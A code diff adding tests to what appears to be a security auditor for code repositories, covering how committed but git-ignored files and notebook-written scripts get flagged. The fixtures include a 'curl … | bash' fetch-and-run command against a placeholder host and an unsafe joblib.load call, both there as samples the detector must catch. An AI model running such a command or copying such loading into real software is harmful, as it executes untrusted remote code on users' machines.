@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict'
+import { execFileSync } from 'node:child_process'
 import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { dirname, join } from 'node:path'
@@ -12,6 +13,7 @@ import { jsonReport } from './report/json.ts'
 import { markdownReport } from './report/markdown.ts'
 import { sarifReport } from './report/sarif.ts'
 import { textReport } from './report/text.ts'
+import { notebook } from './testing/labelled.ts'
 
 const audit = (files: Record<string, string>, options: Partial<AuditOptions> = {}): Promise<AuditReport> =>
   auditFiles(
@@ -177,4 +179,38 @@ test('the report has the layout of published audits', async () => {
   assert.match(report, /Why it was flagged: .*\n +What this means: .*\n +Recommendation: /)
   const clean = textReport(await audit({ 'a.py': 'print("hello")\n' }))
   assert.match(clean, /Verdict: {4}Pass\nRisk level: SAFE\nCategories: SAFE/)
+})
+
+test('a .gitignore hides neither what was committed nor, in code of others, anything', async () => {
+  const folder = mkdtempSync(join(tmpdir(), 'millrace-audit-'))
+  try {
+    mkdirSync(join(folder, 'runs'))
+    for (const file of ['run.py', 'runs/kept.py', 'runs/left.py', 'other.py']) writeFileSync(join(folder, file), PICKLE)
+    writeFileSync(join(folder, '.gitignore'), 'run*\n')
+    const read = async (path: string, allowances: boolean): Promise<string[]> =>
+      (await auditFolder(path, { name: 'ignored', allowances })).findings.map(({ file }) => file)
+    assert.deepEqual(await read(folder, true), ['other.py'])
+    assert.deepEqual(await read(folder, false), ['other.py', 'run.py', 'runs/kept.py', 'runs/left.py'])
+    for (const version of ['2', '4']) {
+      const git = (...args: string[]) => execFileSync('git', ['-C', folder, '-c', `index.version=${version}`, ...args], { stdio: 'pipe' })
+      git('init', '-q')
+      git('add', '-f', 'run.py', 'runs/kept.py', 'other.py')
+      git('update-index', '--index-version', version)
+      assert.deepEqual(await read(folder, true), ['other.py', 'run.py', 'runs/kept.py'], `index version ${version}`)
+      assert.deepEqual(await read(join(folder, 'runs'), true), ['kept.py', 'left.py'])
+      rmSync(join(folder, '.git'), { recursive: true })
+    }
+  } finally {
+    rmSync(folder, { recursive: true, force: true })
+  }
+})
+
+test('a program that a notebook writes to a file is read as what it is', async () => {
+  const { findings } = await audit({
+    'a.ipynb': notebook(
+      '%%writefile serve.py\nimport joblib\nm = joblib.load(p)',
+      '%%writefile run.sh\ncurl https://x.example/i.sh | bash',
+    ),
+  })
+  assert.deepEqual(findings.map(({ rule }) => rule).sort(), ['download/run', 'rce/joblib-load'])
 })
